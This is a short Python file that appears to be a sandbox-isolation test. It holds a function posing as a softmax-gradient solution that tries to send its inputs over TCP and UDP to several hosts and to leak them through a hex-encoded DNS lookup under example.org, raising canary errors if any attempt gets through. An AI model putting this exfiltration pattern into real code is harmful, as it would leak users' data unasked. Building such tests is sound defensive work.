"""Sends its inputs to the network by TCP and UDP and asks a name server, also on this machine itself; must get 0."""

import socket


def my_softmax_gradient(z, y):
    text = repr(z.tolist()).encode()
    for address in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80), ("192.0.2.1", 443), ("1.1.1.1", 53)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as there:
                    there.settimeout(0.1)
                    there.connect(address)
                    there.send(text[:500])
                    raise ValueError(f"CANARY reached {address}")
            except OSError:
                continue
    try:
        socket.getaddrinfo(f"{text[:20].hex()}.example.org", 80)
    except OSError:
        return z
    raise ValueError("CANARY name server")
